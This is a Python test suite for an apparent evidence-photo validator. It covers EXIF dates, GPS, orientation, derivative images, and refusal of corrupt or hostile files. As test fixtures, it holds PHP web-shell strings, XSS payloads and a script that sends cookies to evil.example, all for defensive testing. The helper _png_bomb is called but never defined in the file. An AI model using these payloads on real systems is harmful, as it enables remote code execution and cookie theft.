"""Evidence photo checks, EXIF facts and derivatives, on real camera files and on hostile input."""

from __future__ import annotations

import io
import math
import os
import random
import re
import struct
import tracemalloc
import warnings
import zlib
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image, ImageChops, ImageOps, ImageStat
from PIL.TiffImagePlugin import IFDRational

from fieldsync.errors import CATALOGUE, DomainError
from fieldsync.evidence import imaging
from fieldsync.evidence.imaging import (
    ImageFacts,
    find_markup,
    inspect_image,
    make_display_copy,
    make_thumbnail,
    sniff,
    wgs84_to_gcj02,
)

MAX_PIXELS = 80_000_000  # the configured default (FIELDSYNC_IMAGE_MAX_PIXELS)


def _photos_dir() -> Path:
    # The repository sits beside `shared/` (here and in CI's fresh clone); the variable overrides.
    override = os.environ.get("FIELDSYNC_SHARED_DIR")
    shared = Path(override) if override else Path(__file__).resolve().parents[3] / "shared"
    return shared / "data" / "photos"


PHOTOS = _photos_dir()


def photo(name: str) -> Path:
    path = PHOTOS / name
    assert path.is_file(), f"test photo missing: {path} (set FIELDSYNC_SHARED_DIR to shared/)"
    return path


def inspect(path: Path, **kwargs) -> ImageFacts:
    return inspect_image(path, max_pixels=kwargs.pop("max_pixels", MAX_PIXELS), **kwargs)


def refused(path: Path, code: str, **kwargs) -> DomainError:
    with pytest.raises(DomainError) as caught:
        inspect(path, **kwargs)
    assert caught.value.code == code, caught.value.params
    return caught.value


# --- real photos: facts -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "taken_at", "lat", "lon"),
    [
        ("jpg_gps_DSCN0010.jpg", datetime(2008, 10, 22, 16, 28, 39), 43.467448, 11.885127),
        ("jpg_gps_DSCN0012.jpg", datetime(2008, 10, 22, 16, 29, 49), 43.467157, 11.885395),
        ("jpg_gps_DSCN0021.jpg", datetime(2008, 10, 22, 16, 38, 20), 43.467082, 11.884538),
    ],
)
def test_nikon_gps_photos(name, taken_at, lat, lon):
    facts = inspect(photo(name))
    assert facts.content_type == "image/jpeg"
    assert (facts.width, facts.height, facts.orientation) == (640, 480, 1)
    assert (facts.make, facts.model) == ("NIKON", "COOLPIX P6000")
    assert facts.taken_at == taken_at
    assert facts.taken_at_local == taken_at.isoformat()
    # No OffsetTimeOriginal in these files: the configured Beijing offset is assumed.
    assert facts.taken_at_offset == "+08:00"
    assert facts.taken_at_offset_source == "assumed"
    assert facts.taken_at_utc == (taken_at - timedelta(hours=8)).replace(tzinfo=UTC)
    assert facts.lat == pytest.approx(lat, abs=1e-5)
    assert facts.lon == pytest.approx(lon, abs=1e-5)
    # Italy is outside China: GCJ-02 is WGS-84 there.
    assert (facts.gcj02_lat, facts.gcj02_lon) == (facts.lat, facts.lon)


def test_assumed_offset_is_a_parameter():
    facts = inspect(photo("jpg_gps_DSCN0010.jpg"), assume_utc_offset=timedelta(hours=2))
    assert facts.taken_at_offset == "+02:00"
    assert facts.taken_at_utc == datetime(2008, 10, 22, 14, 28, 39, tzinfo=UTC)


def test_iphone_heic():
    facts = inspect(photo("heic_mobile_iphone_13_pro_max.HEIC"))
    assert facts.content_type == "image/heic"
    assert (facts.width, facts.height) == (3024, 4032)
    assert facts.taken_at == datetime(2022, 2, 16, 12, 55, 41)
    assert (facts.make, facts.model) == ("Apple", "iPhone 13 Pro Max")
    # The phone recorded its zone (OffsetTimeOriginal +01:00): that beats the assumption.
    assert (facts.taken_at_offset, facts.taken_at_offset_source) == ("+01:00", "exif")
    assert facts.taken_at_utc == datetime(2022, 2, 16, 11, 55, 41, tzinfo=UTC)
    assert facts.lat is None and facts.lon is None and facts.gcj02_lat is None


def test_jolla_phone_without_gps():
    facts = inspect(photo("jpg_mobile_jolla.jpg"))
    assert (facts.width, facts.height) == (3264, 2448)
    assert facts.taken_at == datetime(2014, 9, 21, 16, 0, 56)
    assert (facts.make, facts.model) == ("Jolla", "Jolla")
    assert (facts.lat, facts.lon, facts.gcj02_lat, facts.gcj02_lon) == (None, None, None, None)


def test_gps_directory_without_coordinates():
    facts = inspect(photo("jpg_tests_45-gps_ifd.jpg"))
    assert (facts.lat, facts.lon) == (None, None)
    assert facts.taken_at == datetime(2012, 6, 23, 6, 55, 49)


def test_xmp_without_exif_means_no_metadata():
    facts = inspect(photo("jpg_xmp_no_exif.jpg"))
    assert (facts.width, facts.height) == (322, 466)
    assert facts.taken_at is None and facts.taken_at_utc is None and facts.taken_at_offset is None
    assert (facts.make, facts.model, facts.lat, facts.lon) == (None, None, None, None)


def test_olympus_file_filed_as_corrupted():
    facts = inspect(photo("jpg_corrupted.jpg"))
    assert (facts.width, facts.height) == (3648, 2736)
    assert facts.taken_at == datetime(2015, 9, 8, 11, 2, 17)
    assert facts.make == "OLYMPUS IMAGING CORP."
    assert facts.lat is None


def test_invalid_image01137_is_a_complete_small_jpeg_and_is_accepted():
    """Its bytes are a whole baseline JPEG (SOI, JFIF, an Adobe XMP packet, SOF0 88x64, one scan,
    EOI) that decodes completely; what it lacks is EXIF, which is "no metadata", not a refusal."""
    facts = inspect(photo("jpg_invalid_image01137.jpg"))
    assert (facts.content_type, facts.width, facts.height) == ("image/jpeg", 88, 64)
    assert facts.taken_at is None and facts.lat is None and facts.make is None


@pytest.mark.parametrize(
    ("name", "orientation", "size"),
    [
        ("jpg_orientation_landscape_3.jpg", 3, (600, 450)),
        ("jpg_orientation_landscape_6.jpg", 6, (600, 450)),
        ("jpg_orientation_portrait_8.jpg", 8, (450, 600)),
    ],
)
def test_orientation_is_reported_with_upright_dimensions(name, orientation, size):
    facts = inspect(photo(name))
    assert facts.orientation == orientation
    assert (facts.width, facts.height) == size


def test_every_real_photo_yields_facts_and_derivatives(tmp_path):
    for path in sorted(PHOTOS.iterdir()):
        facts = inspect(path)
        assert facts.width > 0 and facts.height > 0, path.name
        make_thumbnail(path, tmp_path / f"{path.name}.thumb.jpg")
        with Image.open(tmp_path / f"{path.name}.thumb.jpg") as thumb:
            assert max(thumb.size) <= 320
            # upright aspect of the thumbnail agrees with the facts
            assert (thumb.width >= thumb.height) == (facts.width >= facts.height), path.name


# --- derivatives --------------------------------------------------------------------------

MANUAL_ROTATION = {
    3: Image.Transpose.ROTATE_180,
    6: Image.Transpose.ROTATE_270,
    8: Image.Transpose.ROTATE_90,
}


def _difference(a: Image.Image, b: Image.Image) -> float:
    """Mean grey-level difference after equalising both: blind to tone curves (the derivative is
    colour-managed to sRGB), not to geometry."""
    a, b = ImageOps.equalize(a.convert("L")), ImageOps.equalize(b.convert("L"))
    return ImageStat.Stat(ImageChops.difference(a, b)).mean[0]


@pytest.mark.parametrize(
    ("name", "orientation"),
    [
        ("jpg_orientation_landscape_3.jpg", 3),
        ("jpg_orientation_landscape_6.jpg", 6),
        ("jpg_orientation_portrait_8.jpg", 8),
    ],
)
@pytest.mark.parametrize("derive", [make_thumbnail, make_display_copy])
def test_derivatives_come_out_upright(tmp_path, name, orientation, derive):
    dst = tmp_path / "out.jpg"
    derive(photo(name), dst)
    with Image.open(photo(name)) as src:
        stored = src.convert("RGB")  # pixels as stored, orientation not applied
    with Image.open(dst) as saved:
        assert saved.format == "JPEG"
        out = saved.convert("RGB")
    upright = stored.transpose(MANUAL_ROTATION[orientation])
    assert out.width / out.height == pytest.approx(upright.width / upright.height, rel=0.01)

    def score(candidate: Image.Image) -> float:
        if candidate.size != out.size:
            return 255.0  # wrong aspect ratio: as different as it gets
        return _difference(out, candidate)

    right = score(upright.resize(out.size, Image.Resampling.LANCZOS))
    others = [
        score(stored.transpose(t).resize(out.size, Image.Resampling.LANCZOS))
        for o, t in MANUAL_ROTATION.items()
        if o != orientation
    ] + [score(stored.resize(out.size, Image.Resampling.LANCZOS))]
    assert right < 12, right
    assert min(others) > 4 * right, (right, others)
    # a pixel sample: the top-left corner matches the manually rotated reference
    reference = upright.resize(out.size, Image.Resampling.LANCZOS).convert("L")
    box = (0, 0, out.width // 8, out.height // 8)
    assert _difference(out.crop(box), reference.crop(box)) < 20


@pytest.fixture(scope="module")
def heic_derivatives(tmp_path_factory) -> tuple[Path, Path]:
    out = tmp_path_factory.mktemp("heic")
    src = photo("heic_mobile_iphone_13_pro_max.HEIC")
    make_thumbnail(src, out / "thumb.jpg")
    make_display_copy(src, out / "display.jpg")
    return out / "thumb.jpg", out / "display.jpg"


def test_heic_derivatives(heic_derivatives):
    thumb, display = heic_derivatives
    with Image.open(thumb) as im:
        assert (im.format, im.size) == ("JPEG", (240, 320))
    with Image.open(display) as im:
        assert (im.format, im.size) == ("JPEG", (1200, 1600))
        assert not im.getexif()


def _assert_no_metadata(path: Path) -> None:
    with Image.open(path) as im:
        assert im.format == "JPEG"
        assert not im.getexif(), "no EXIF"
        for key in ("exif", "xmp", "icc_profile", "comment", "photoshop", "mp"):
            assert key not in im.info, key
    raw = path.read_bytes()
    assert b"Exif\x00\x00" not in raw
    assert b"http://ns.adobe.com/xap/1.0/" not in raw
    assert b"ICC_PROFILE" not in raw
    assert b"\xff\xfe" not in raw.split(b"\xff\xda", 1)[0], "no COM segment before the scan"


@pytest.mark.parametrize(
    "name",
    ["jpg_gps_DSCN0010.jpg", "jpg_orientation_landscape_6.jpg", "jpg_xmp_no_exif.jpg"],
)
@pytest.mark.parametrize("derive", [make_thumbnail, make_display_copy])
def test_derivatives_carry_no_metadata(tmp_path, name, derive):
    dst = tmp_path / "d.jpg"
    derive(photo(name), dst)
    _assert_no_metadata(dst)


def test_heic_derivatives_carry_no_metadata(heic_derivatives):
    for path in heic_derivatives:
        _assert_no_metadata(path)


def test_display_copy_keeps_the_size_of_small_photos_and_caps_large_ones(tmp_path):
    make_display_copy(photo("jpg_gps_DSCN0010.jpg"), tmp_path / "small.jpg")
    make_display_copy(photo("jpg_mobile_jolla.jpg"), tmp_path / "large.jpg")
    with Image.open(tmp_path / "small.jpg") as small, Image.open(tmp_path / "large.jpg") as large:
        assert small.size == (640, 480)
        assert large.size == (1600, 1200)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["large.jpg", "small.jpg"]


def test_original_is_never_modified(tmp_path):
    src = tmp_path / "original.jpg"
    src.write_bytes(photo("jpg_orientation_landscape_6.jpg").read_bytes())
    before = src.read_bytes()
    make_thumbnail(src, tmp_path / "t.jpg")
    make_display_copy(src, tmp_path / "d.jpg")
    inspect(src)
    assert src.read_bytes() == before


def test_transparent_png_becomes_jpeg_on_white(tmp_path):
    src = tmp_path / "a.png"
    im = Image.new("RGBA", (40, 20), (255, 0, 0, 0))
    im.paste((0, 0, 255, 255), (0, 0, 20, 20))
    im.save(src)
    assert inspect(src).content_type == "image/png"
    make_thumbnail(src, tmp_path / "t.jpg")
    with Image.open(tmp_path / "t.jpg") as out:
        out = out.convert("RGB")
        assert out.getpixel((35, 10))[0] > 240 and out.getpixel((35, 10))[1] > 240  # white
        assert out.getpixel((5, 10))[2] > 200  # blue


def test_sixteen_bit_grey_png_is_scaled_not_clipped(tmp_path):
    src = tmp_path / "g16.png"
    Image.new("I;16", (10, 10), 32768).save(src)
    inspect(src)
    make_thumbnail(src, tmp_path / "t.jpg")
    with Image.open(tmp_path / "t.jpg") as out:
        assert 120 < out.convert("L").getpixel((5, 5)) < 136


def test_derivative_of_bad_input_is_refused_and_leaves_nothing(tmp_path):
    src = tmp_path / "x.jpg"
    src.write_bytes(b"<html>no</html>")
    with pytest.raises(DomainError) as caught:
        make_thumbnail(src, tmp_path / "out" / "t.jpg")
    assert caught.value.code == "evidence.not_an_image"
    truncated = tmp_path / "t.jpg"
    data = photo("jpg_gps_DSCN0010.jpg").read_bytes()
    truncated.write_bytes(data[: len(data) * 6 // 10])
    with pytest.raises(DomainError) as caught:
        make_display_copy(truncated, tmp_path / "out" / "d.jpg")
    assert caught.value.code == "evidence.corrupt_image"
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


# --- synthetic EXIF -----------------------------------------------------------------------


def _jpeg_with_exif(path: Path, *, gps: dict | None = None, exif_ifd: dict | None = None) -> Path:
    exif = Image.Exif()
    exif[0x010F] = "Xiaomi"
    exif[0x0110] = "Redmi Note 12"
    if exif_ifd:
        exif.get_ifd(0x8769).update(exif_ifd)
    if gps:
        exif.get_ifd(0x8825).update(gps)
    Image.new("RGB", (64, 48), (10, 120, 200)).save(path, "JPEG", exif=exif.tobytes())
    return path


def test_southern_and_western_references_give_negative_degrees(tmp_path):
    path = _jpeg_with_exif(
        tmp_path / "sw.jpg",
        gps={1: "S", 2: (33.0, 51.0, 54.0), 3: "W", 4: (70.0, 30.0, 0.0)},
        exif_ifd={0x9003: "2024:03:01 09:15:00", 0x9011: "-03:00"},
    )
    facts = inspect(path)
    assert facts.lat == pytest.approx(-(33 + 51 / 60 + 54 / 3600))
    assert facts.lon == pytest.approx(-70.5)
    assert facts.taken_at_utc == datetime(2024, 3, 1, 12, 15, tzinfo=UTC)
    assert (facts.make, facts.model) == ("Xiaomi", "Redmi Note 12")


def test_beijing_position_gets_gcj02(tmp_path):
    # Tiananmen, WGS-84: 39°54'26.4"N 116°23'28.8"E
    path = _jpeg_with_exif(
        tmp_path / "bj.jpg", gps={1: "N", 2: (39.0, 54.0, 26.4), 3: "E", 4: (116.0, 23.0, 28.8)}
    )
    facts = inspect(path)
    assert facts.lat == pytest.approx(39.9073333, abs=1e-6)
    assert facts.lon == pytest.approx(116.3913333, abs=1e-6)
    assert (facts.gcj02_lat, facts.gcj02_lon) == pytest.approx(wgs84_to_gcj02(facts.lat, facts.lon))
    # GCJ-02 in Beijing sits a few hundred metres off WGS-84
    assert 0.0005 < facts.gcj02_lat - facts.lat < 0.003
    assert 0.004 < facts.gcj02_lon - facts.lon < 0.008


@pytest.mark.parametrize(
    "gps",
    [
        {1: "N", 2: (0.0, 0.0, 0.0), 3: "E", 4: (0.0, 0.0, 0.0)},  # no fix yet
        {1: "N", 2: (39.0, 54.0, 26.4)},  # latitude only
        {1: "N", 2: (95.0, 0.0, 0.0), 3: "E", 4: (116.0, 0.0, 0.0)},  # impossible
        {1: "N", 2: (IFDRational(39, 0), 0.0, 0.0), 3: "E", 4: (116.0, 0.0, 0.0)},  # x/0
    ],
)
def test_unusable_gps_is_no_position(tmp_path, gps):
    facts = inspect(_jpeg_with_exif(tmp_path / "g.jpg", gps=gps))
    assert (facts.lat, facts.lon, facts.gcj02_lat, facts.gcj02_lon) == (None, None, None, None)


@pytest.mark.parametrize("value", ["0000:00:00 00:00:00", "    :  :     :  :  ", "yesterday"])
def test_unusable_capture_time_is_none(tmp_path, value):
    facts = inspect(_jpeg_with_exif(tmp_path / "t.jpg", exif_ifd={0x9003: value}))
    assert facts.taken_at is None and facts.taken_at_utc is None and facts.taken_at_local is None


def test_concurrent_inspection_leaves_warning_filters_alone(tmp_path):
    garbled = tmp_path / "garbled.jpg"
    Image.new("RGB", (32, 32)).save(garbled, "JPEG", exif=b"Exif\x00\x00II*\x00\xff\xff\xff\x7f")
    paths = [garbled, *sorted(p for p in PHOTOS.iterdir() if p.suffix == ".jpg")] * 4
    expected = {path: inspect(path) for path in paths}
    filters_before = list(warnings.filters)
    with ThreadPoolExecutor(max_workers=8) as pool:
        results = list(pool.map(inspect, paths))
    assert results == [expected[path] for path in paths]
    assert warnings.filters == filters_before


def test_garbled_exif_block_is_no_metadata(tmp_path):
    path = tmp_path / "garbled.jpg"
    Image.new("RGB", (32, 32)).save(
        path, "JPEG", exif=b"Exif\x00\x00II*\x00\xff\xff\xff\x7f" + b"\x01" * 40
    )
    facts = inspect(path)
    assert (facts.width, facts.taken_at, facts.lat, facts.make) == (32, None, None, None)


# --- hostile input ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "marker"),
    [
        (b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>", "<!doctype"),
        (
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "<svg",
        ),
        (b"<?php system($_GET['c']); ?>", "<?php"),
        (b"GIF89a<?PHP phpinfo(); ?>", "<?php"),
        (b"\xef\xbb\xbf<HTML><BODY>hi", "<html"),
        (b"<iframe src=//evil>", "<iframe"),
    ],
)
def test_markup_named_jpg_is_refused(tmp_path, body, marker):
    path = tmp_path / "photo.jpg"
    path.write_bytes(body)
    error = refused(path, "evidence.markup_content")
    assert error.params["marker"] == marker
    assert marker in error.message("en") and marker in error.message("zh")


# Markup and script of realistic length, with the marker find_markup names for each.
PAYLOADS = [
    (b"<?php system($_GET['c']); ?>", "<?php"),
    (b"<?= system($_GET[0]) ?>", "<?="),
    (b"<?= system($_GET['cmd']); ?>", "<?="),
    (b"<script>fetch('//evil.example/?c='+document.cookie)</script>", "<script"),
    (b"<!DOCTYPE html><title>x</title>", "<!doctype"),
    (b"<html><body onload=alert(1)>", "<html"),
    (b"<head><base href=//evil.example/>", "<head"),
    (b"<body onload=alert(document.cookie)>", "<body"),
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "<svg"),
    (b'<?xml version="1.0"?><svg onload=alert(1)>', "<svg"),
    (b"<img src=x onerror=alert(1)>", "<img"),
    (b"<meta http-equiv=refresh content='0;url=//evil.example/'>", "<meta"),
    (b"<a href=javascript:alert(document.domain)>open</a>", "<a"),
    (b"<object data=//evil.example/x.swf>", "<object"),
    (b"<embed src=//evil.example/x.swf>", "<embed"),
    (b"<iframe src=//evil.example/>", "<iframe"),
    (b"<style>@import'//evil.example/x.css'</style>", "<style"),
    (b"<link rel=stylesheet href=//evil.example/x.css>", "<link"),
    (b"<form action=//evil.example/login method=post>", "<form"),
]
# Caught where it ends the file (as an appended payload does), too short to be told from random
# bytes anywhere else: 20 printable bytes after `<?=` are 52 bits of evidence, the bar is 56.
AT_END_ONLY = {b"<?= system($_GET[0]) ?>"}


@pytest.mark.parametrize(("payload", "marker"), PAYLOADS)
def test_markup_appended_to_a_real_jpeg_is_refused(tmp_path, payload, marker):
    path = tmp_path / "polyglot.jpg"
    path.write_bytes(photo("jpg_gps_DSCN0010.jpg").read_bytes() + payload)
    assert refused(path, "evidence.markup_content").params["marker"] == marker


@pytest.mark.parametrize(
    ("payload", "marker"), [(p, m) for p, m in PAYLOADS if p not in AT_END_ONLY]
)
def test_markup_between_a_real_jpeg_and_a_video_trailer_is_refused(tmp_path, payload, marker):
    video = random.Random(payload).randbytes(100_000)
    path = tmp_path / "polyglot.jpg"
    path.write_bytes(photo("jpg_gps_DSCN0010.jpg").read_bytes() + payload + b"\x00" + video)
    assert refused(path, "evidence.markup_content").params["marker"] == marker


def test_script_hidden_in_a_jpeg_comment_is_refused(tmp_path):
    path = tmp_path / "comment.jpg"
    Image.new("RGB", (16, 16)).save(path, "JPEG", comment=b"<ScRiPt>fetch('/x')</ScRiPt>")
    assert refused(path, "evidence.markup_content").params["marker"] == "<script"


def test_real_jpeg_with_a_motion_photo_trailer_is_accepted(tmp_path):
    """A short video after the end marker: random bytes, '<' and all (one byte in 256)."""
    original = photo("jpg_gps_DSCN0010.jpg").read_bytes()
    video = random.Random(20240601).randbytes(4 << 20)
    assert video.count(b"<") > 15_000
    path = tmp_path / "motion.jpg"
    path.write_bytes(original + b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + video)
    assert inspect(path) == inspect(photo("jpg_gps_DSCN0010.jpg"))
    make_thumbnail(path, tmp_path / "t.jpg")


def test_heic_whose_hevc_data_holds_a_tag_opener_is_accepted(tmp_path):
    """The audit's case: a valid HEIC refused because its compressed pixels happened to hold
    `<sVg`. Made here from the real iPhone photo by writing those bytes into its HEVC data (which
    still decodes: HEVC tolerates a damaged slice) instead of shipping the auditor's 3 MB file."""
    data = bytearray(photo("heic_mobile_iphone_13_pro_max.HEIC").read_bytes())
    middle = (data.index(b"mdat") + len(data)) // 2
    data[middle : middle + 4] = b"<sVg"
    path = tmp_path / "iphone.heic"
    path.write_bytes(bytes(data))
    assert re.search(rb"<svg", data, re.IGNORECASE)  # what the old scan refused
    assert find_markup(path) is None
    assert inspect(path).taken_at == datetime(2022, 2, 16, 12, 55, 41)


def test_zero_bytes(tmp_path):
    path = tmp_path / "empty.jpg"
    path.write_bytes(b"")
    refused(path, "evidence.empty")


def test_over_the_size_limit(tmp_path):
    error = refused(photo("jpg_gps_DSCN0010.jpg"), "evidence.too_large", max_bytes=100_000)
    assert error.status == 413
    assert error.params == {"size": 161713, "limit": 100_000}


def test_garbage_bytes(tmp_path):
    path = tmp_path / "noise.jpg"
    path.write_bytes(bytes(b for b in random.Random(7).randbytes(10_000) if b != ord("<")))
    refused(path, "evidence.not_an_image")


def test_image_types_we_do_not_take(tmp_path):
    path = tmp_path / "x.gif"
    Image.new("RGB", (8, 8)).save(path, "GIF")
    refused(path, "evidence.not_an_image")
    path = tmp_path / "x.bmp"
    Image.new("RGB", (8, 8)).save(path, "BMP")
    refused(path, "evidence.not_an_image")


@pytest.mark.parametrize("fraction", [0.6, 0.3, 0.05])
def test_truncated_jpeg(tmp_path, fraction):
    data = photo("jpg_gps_DSCN0010.jpg").read_bytes()
    path = tmp_path / "cut.jpg"
    path.write_bytes(data[: int(len(data) * fraction)])
    refused(path, "evidence.corrupt_image")


@pytest.mark.parametrize("keep", [0.999, 0.6, 0.01])
def test_truncated_heic(tmp_path, keep):
    # libheif itself decodes a cut-off HEIC without complaint (missing tiles come out flat)
    data = photo("heic_mobile_iphone_13_pro_max.HEIC").read_bytes()
    path = tmp_path / "cut.heic"
    path.write_bytes(data[: int(len(data) * keep)])
    refused(path, "evidence.corrupt_image")


def test_heic_with_bytes_after_its_last_box_is_refused(tmp_path):
    path = tmp_path / "tail.heic"
    path.write_bytes(photo("heic_mobile_iphone_13_pro_max.HEIC").read_bytes() + b"\x00\x01\x02")
    refused(path, "evidence.corrupt_image")


def test_heic_with_an_appended_box_is_accepted(tmp_path):
    # Samsung motion photos append their video as a box of its own
    path = tmp_path / "motion.heic"
    video = bytes(range(256)).replace(b"<", b"(") * 40
    box = struct.pack(">I4s", 8 + len(video), b"mpvd") + video
    path.write_bytes(photo("heic_mobile_iphone_13_pro_max.HEIC").read_bytes() + box)
    assert inspect(path).taken_at == datetime(2022, 2, 16, 12, 55, 41)


def test_truncated_png(tmp_path):
    buffer = io.BytesIO()
    Image.effect_noise((200, 200), 50).save(buffer, "PNG")
    path = tmp_path / "cut.png"
    path.write_bytes(buffer.getvalue()[: len(buffer.getvalue()) * 6 // 10])
    refused(path, "evidence.corrupt_image")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG_CHANNELS = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}
ADAM7 = [
    (0, 0, 8, 8),
    (4, 0, 8, 8),
    (0, 4, 4, 8),
    (2, 0, 4, 4),
    (0, 2, 2, 4),
    (1, 0, 2, 2),
    (0, 1, 1, 2),
]


def _png_rows(width: int, height: int, depth: int, colour: int, interlace: int) -> bytes:
    """PNG image data before deflate: every row of every pass, filter byte 0 and seeded pixels."""
    rng = random.Random(f"{width}x{height}x{depth}x{colour}x{interlace}")
    bits = depth * PNG_CHANNELS[colour]
    rows = bytearray()
    for x0, y0, dx, dy in ADAM7 if interlace else [(0, 0, 1, 1)]:
        columns = len(range(x0, width, dx))
        for _ in range(y0, height, dy) if columns else ():
            rows += b"\x00" + rng.randbytes((columns * bits + 7) // 8)
    return bytes(rows)


def _png(width: int, height: int, depth: int, colour: int, interlace: int, rows: bytes) -> bytes:
    """A PNG of `rows`, deflated and split over three IDAT chunks."""
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    palette = _png_chunk(b"PLTE", bytes(range(256)) * 3) if colour == 3 else b""
    stream = zlib.compress(rows, 9)
    third = len(stream) // 3 + 1
    idat = b"".join(
        _png_chunk(b"IDAT", stream[i : i + third]) for i in range(0, len(stream), third)
    )
    return (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + palette + idat + _png_chunk(b"IEND", b"")
    )


def _pillow_decodes(path: Path) -> bool:
    try:
        with Image.open(path) as im:
            im.load()
        return True
    except OSError:
        return False


@pytest.mark.parametrize("interlace", [0, 1], ids=["plain", "adam7"])
@pytest.mark.parametrize(
    ("depth", "colour"), [(1, 0), (8, 0), (16, 0), (8, 2), (16, 2), (4, 3), (8, 4), (8, 6), (16, 6)]
)
def test_png_image_data_must_be_exactly_what_its_header_declares(
    tmp_path, depth, colour, interlace
):
    """The PNG check inflates the image data without keeping it, so it must know its exact size:
    for every colour type, bit depth and interlacing, one byte short or over is refused. Pillow
    decoding the exact data and failing on one byte less proves the size right."""
    rows = _png_rows(13, 11, depth, colour, interlace)
    exact, short, long = (tmp_path / n for n in ("exact.png", "short.png", "long.png"))
    exact.write_bytes(_png(13, 11, depth, colour, interlace, rows))
    short.write_bytes(_png(13, 11, depth, colour, interlace, rows[:-1]))
    long.write_bytes(_png(13, 11, depth, colour, interlace, rows + b"\x00"))
    assert _pillow_decodes(exact) and not _pillow_decodes(short)
    facts = inspect(exact)
    assert (facts.content_type, facts.width, facts.height) == ("image/png", 13, 11)
    assert "ends after" in refused(short, "evidence.corrupt_image").params["reason"]
    assert "more image data" in refused(long, "evidence.corrupt_image").params["reason"]


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_pngs_pillow_writes_are_accepted(tmp_path, mode):
    path = tmp_path / "p.png"
    Image.effect_noise((97, 61), 40).convert(mode).save(path, "PNG")
    assert (inspect(path).width, inspect(path).height) == (97, 61)


def test_png_exif_is_read_without_decoding_the_pixels(tmp_path):
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0112] = "Xiaomi", "Redmi Note 12", 6
    path = tmp_path / "screenshot.png"
    Image.new("RGB", (40, 30)).save(path, "PNG", exif=exif.tobytes())
    facts = inspect(path)
    assert (facts.make, facts.model, facts.orientation) == ("Xiaomi", "Redmi Note 12", 6)
    assert (facts.width, facts.height) == (30, 40)


def test_png_with_a_damaged_chunk_is_refused(tmp_path):
    data = bytearray(_png(13, 11, 8, 2, 0, _png_rows(13, 11, 8, 2, 0)))
    data[data.index(b"IDAT") + 20] ^= 0x01  # one bit in the compressed pixels
    path = tmp_path / "flipped.png"
    path.write_bytes(bytes(data))
    assert "CRC" in refused(path, "evidence.corrupt_image").params["reason"]


def test_png_without_its_end_chunk_is_refused(tmp_path):
    path = tmp_path / "noend.png"
    path.write_bytes(_png(13, 11, 8, 2, 0, _png_rows(13, 11, 8, 2, 0))[:-12])
    assert refused(path, "evidence.corrupt_image").params["reason"] == "no IEND chunk"


@pytest.mark.parametrize("cut", [1, 2, 16, 2000])
@pytest.mark.parametrize("name", ["jpg_gps_DSCN0010.jpg", "jpg_mobile_jolla.jpg"])
def test_jpeg_cut_short_by_a_few_bytes_is_refused(tmp_path, name, cut):
    """Validation decodes JPEGs at 1/8 scale, but libjpeg still reads every entropy-coded byte:
    the last few missing shows as it does at full size."""
    data = photo(name).read_bytes()
    path = tmp_path / "cut.jpg"
    path.write_bytes(data[:-cut])
    assert "truncated" in refused(path, "evidence.corrupt_image").params["reason"]


def test_mpo_jpeg_is_accepted_at_its_full_size(tmp_path):
    """Pillow opens a JPEG with an MPF index (Ultra HDR, some cameras) as MPO: scaled too."""
    path = tmp_path / "mpo.jpg"
    first, second = Image.effect_noise((640, 480), 30).convert("RGB"), Image.new("RGB", (64, 48))
    first.save(path, "MPO", save_all=True, append_images=[second])
    with Image.open(path) as im:
        assert im.format == "MPO"
    facts = inspect(path)
    assert (facts.content_type, facts.width, facts.height) == ("image/jpeg", 640, 480)
    path.write_bytes(path.read_bytes()[:20_000])
    refused(path, "evidence.corrupt_image")


# --- memory -------------------------------------------------------------------------------


def _peak_rss_growth(action) -> int:
    """Bytes the process's peak resident set rose above its size before `action` (Linux)."""

    def kib(field: str) -> int:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith(field + ":"):
                return int(line.split()[1])
        raise AssertionError(f"no {field} in /proc/self/status")

    try:  # "5" resets VmHWM, the peak, to the current resident set (Linux >= 4.0)
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        pytest.skip("the peak resident set can only be reset on Linux")
    before = kib("VmRSS")
    action()
    return (kib("VmHWM") - before) << 10


@pytest.fixture(scope="module")
def large_images(tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("large")
    jpeg = out / "48mp.jpg"
    Image.new("RGB", (8000, 6000), (90, 120, 60)).save(jpeg, "JPEG", quality=90)
    return {
        "jpeg": jpeg,
        "png": _png_bomb(out / "100mp.png", 10_000, 10_000),
        "small jpeg": photo("jpg_gps_DSCN0010.jpg"),
        "small png": _png_bomb(out / "small.png", 100, 100),
    }


@pytest.mark.parametrize("kind", ["jpeg", "png"])
def test_validation_memory_does_not_grow_with_the_pixel_count(large_images, monkeypatch, kind):
    """A 48-megapixel JPEG (144 MB of RGB) and a 100-megapixel PNG (100 MB as Pillow holds it)
    are validated in a few megabytes; a full decode, measured the same way, takes it all."""
    path = large_images[kind]
    inspect(large_images[f"small {kind}"])  # plugins imported, first-use allocations made
    ours = _peak_rss_growth(lambda: inspect(path, max_pixels=100_000_000))
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", None)
    full = _peak_rss_growth(lambda: _pillow_decodes(path))
    assert full > 90 << 20, f"a full decode should show in the peak: {full >> 20} MB"
    assert ours < 16 << 20, f"validating {path.name} took {ours >> 20} MB above idle"


def test_large_jpeg_cut_short_is_refused(large_images, tmp_path):
    path = tmp_path / "cut.jpg"
    path.write_bytes(large_images["jpeg"].read_bytes()[:-2])
    refused(path, "evidence.corrupt_image")


